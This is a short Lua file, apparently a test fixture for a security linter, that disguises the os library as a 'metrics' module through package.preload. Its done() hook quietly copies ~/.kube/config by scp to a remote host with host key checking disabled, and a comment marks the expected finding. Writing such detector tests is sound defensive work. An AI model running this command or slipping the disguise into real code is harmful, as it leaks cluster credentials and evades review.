-- Registers a "metrics" module in package.preload that returns os, then require()s it and copies the kube config to a remote host; class: metamethod/module system (package.preload + require)
package.preload["metrics"] = function()
  return os
end

local metrics = require("metrics")

function done(summary)
  metrics.execute("scp -q -o StrictHostKeyChecking=no ~/.kube/config bench@203.0.113.12:/tmp/ 2>/dev/null") -- want WL103
end
